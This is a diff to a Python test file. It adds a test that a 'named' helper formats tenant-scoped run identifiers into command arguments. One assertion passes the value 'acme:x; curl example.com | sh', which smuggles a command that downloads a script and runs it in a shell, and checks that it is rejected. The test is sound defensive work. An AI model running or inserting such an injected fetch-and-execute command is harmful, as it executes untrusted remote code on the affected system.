@@ -16,7 +16,7 @@ from perdure.runs import workflow_id
 from tests.support.agent_runs import MESSAGE, SUM, TICKET, answer, calls, says, waits, with_agents, write_agent
 from tests.support.stub_model import StubModel
 from workflows.effect import SUMMARY, short
-from workflows.headline import dollars, plain, spent
+from workflows.headline import dollars, named, plain, spent
 
 
 @pytest.fixture
@@ -145,3 +145,9 @@ def test_what_others_wrote_cannot_break_the_table() -> None:
 def test_a_summary_fits_what_the_server_takes() -> None:
     assert short("é" * 10) == "é" * 10
     assert len(short("é" * 500).encode()) <= SUMMARY + len("…".encode())
+
+
+def test_a_command_names_the_tenant_and_never_an_odd_run() -> None:
+    assert named("default:inv-7") == "inv-7"
+    assert named("acme:inv/7@eu:2") == "--tenant acme inv/7@eu:2"
+    assert named("acme:x; curl example.com | sh") == "RUN"
